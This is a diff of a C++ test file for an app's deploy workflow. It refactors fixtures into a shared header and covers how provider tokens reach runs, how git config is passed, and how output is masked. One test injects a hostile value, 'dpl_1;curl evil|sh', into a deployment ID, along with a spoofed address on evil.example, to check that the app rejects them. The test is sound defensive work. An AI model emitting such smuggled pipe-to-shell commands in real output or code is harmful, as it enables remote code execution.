@@ -2,7 +2,7 @@
 // answers as follow-up runs, where tokens and values may go (and where not),
 // the exits that end a session and those that don't, cancelling, the domain
 // step and the operations on a live deploy, and the tool installer.
-#include "CanvasFixture.h"
+#include "DeployFixture.h"
 
 #include "deploy/DeployRuns.h"
 #include "deploy/DeployToolInstaller.h"
@@ -22,78 +22,10 @@ using Phase = DeploySessionState::Phase;
 
 namespace {
 
-AgentOutput out(const QString &line) { return AgentOutput::stdoutLine(line); }
-
 const QString token = QStringLiteral("vercel-token-0123456789");
 const QString customValue = QStringLiteral("custom-value-abcdefgh");
 
-class DeployFlowTest : public CanvasTest {
-protected:
-    void SetUp() override
-    {
-        CanvasTest::SetUp();
-        toolsFolder = makeTempDir(QStringLiteral("deploy-tools"));
-        previousSink = setLogSink([this](const QString &line) { logged.append(line); });
-    }
-    void TearDown() override
-    {
-        CanvasTest::TearDown();
-        setLogSink(previousSink);
-    }
-
-    // Tools already in place, so no run installs anything.
-    void provideTools()
-    {
-        const QString bin = DeployToolInstaller::binFolder(toolsFolder);
-        QDir().mkpath(bin);
-        for (const char *tool : {"vercel", "railway", "supabase"}) {
-            const QString path = bin + QLatin1Char('/') + QLatin1String(tool);
-            writeFile(path, "#!/bin/sh\nexit 0\n");
-            QFile::setPermissions(path, QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner);
-        }
-    }
-
-    ProjectCanvasViewModel &openDeploy(const QString &npm = QStringLiteral("npm"))
-    {
-        canvas = std::make_unique<ProjectCanvasViewModel>(QStringLiteral("project-id"), project, QStringLiteral("Shop"),
-                                                          provider, nullptr, deployServices(npm));
-        await(canvas->bootstrap());
-        return *canvas;
-    }
-
-    CanvasServices deployServices(const QString &npm)
-    {
-        CanvasServices s = services();
-        s.deployToolsFolder = toolsFolder;
-        s.npmProgram = npm;
-        return s;
-    }
-
-    Phase phase() const { return canvas->deployState().phase(); }
-    QUuid lastSession() const { return provider->sessionIds().last(); }
-
-    // Every byte Nerim wrote under the project.
-    QByteArray everythingUnderProject()
-    {
-        SerialFileWriter::shared().flush();
-        QByteArray all;
-        QStringList pending{project};
-        while (!pending.isEmpty()) {
-            QDir dir(pending.takeFirst());
-            for (const QFileInfo &info : dir.entryInfoList(QDir::Files | QDir::Dirs | QDir::Hidden | QDir::NoDotAndDotDot)) {
-                if (info.isDir())
-                    pending.append(info.filePath());
-                else
-                    all += readFile(info.filePath());
-            }
-        }
-        return all;
-    }
-
-    QString toolsFolder;
-    QStringList logged;
-    LogSink previousSink;
-};
+class DeployFlowTest : public DeployCanvasTest {};
 
 } // namespace
 
@@ -428,9 +360,9 @@ TEST_F(DeployFlowTest, EachTokenReachesOnlyItsProvidersRunsAndLaterRunsKnowWhatM
     EXPECT_EQ(third.extras.environment.value(QStringLiteral("VERCEL_TOKEN")), token);
     EXPECT_FALSE(third.extras.environment.contains(QStringLiteral("SUPABASE_ACCESS_TOKEN")));
     EXPECT_EQ(canvas->deployTokenNames(), (QStringList{QStringLiteral("VERCEL_TOKEN"), QStringLiteral("SUPABASE_ACCESS_TOKEN")}));
-    // Every Deploy run's git ignores what the repository's own config would run.
-    EXPECT_EQ(third.extras.environment.value(QStringLiteral("GIT_CONFIG_COUNT")), QStringLiteral("4"));
-    EXPECT_EQ(third.extras.environment.value(QStringLiteral("GIT_CONFIG_KEY_1")), QStringLiteral("core.hooksPath"));
+    // A run's own variables are its token and nothing else: git's settings
+    // come to every process from its guard (see DeployEndToEndTest).
+    EXPECT_FALSE(third.extras.environment.contains(QStringLiteral("GIT_CONFIG_COUNT")));
     EXPECT_EQ(third.extras.arguments, DeployRuns::runArguments({DeployProvider::supabase, DeployProvider::vercel}));
     // The run knows what the earlier runs' markers said, though the transcript doesn't show them.
     QString earlier;
@@ -441,14 +373,15 @@ TEST_F(DeployFlowTest, EachTokenReachesOnlyItsProvidersRunsAndLaterRunsKnowWhatM
     // The briefing is the Deploy agent's, not a task agent's.
     EXPECT_EQ(third.role, AgentRole::deploy);
 
-    // A live address on a host of no deployed provider is not taken: stuck, and the tokens go.
+    // A live address on a host of no deployed provider is not taken: stuck. The
+    // tokens stay for a retry; only the user's cancel drops them.
     provider->yieldEvent(lastSession(), out(QStringLiteral("[NERIM_DEPLOY_DEPLOYMENT_ID] vercel | dpl_1;curl evil|sh")));
     provider->yieldEvent(lastSession(), out(QStringLiteral("[NERIM_DEPLOY_LIVE] https://shop.vercel.app.evil.example/")));
     ASSERT_TRUE(waitUntil([&] { return phase().kind() == Phase::Kind::stuck; }));
     EXPECT_EQ(phase().reason(), QStringLiteral("The Deploy agent reported a live address that isn't on Supabase or "
                                                "Vercel, so Nerim didn't keep it."));
-    EXPECT_TRUE(canvas->deployTokenNames().isEmpty());
-    // Its output is still masked until it ends.
+    EXPECT_EQ(canvas->deployTokenNames().size(), 2);
+    // Its output is still masked.
     provider->yieldEvent(lastSession(), out(QStringLiteral("echo ") + token));
     ASSERT_TRUE(waitUntil([&] { return lineTexts(canvas->deployPane()).contains(QStringLiteral("echo \u2022\u2022\u2022\u2022")); }));
     provider->finish(lastSession(), 0);
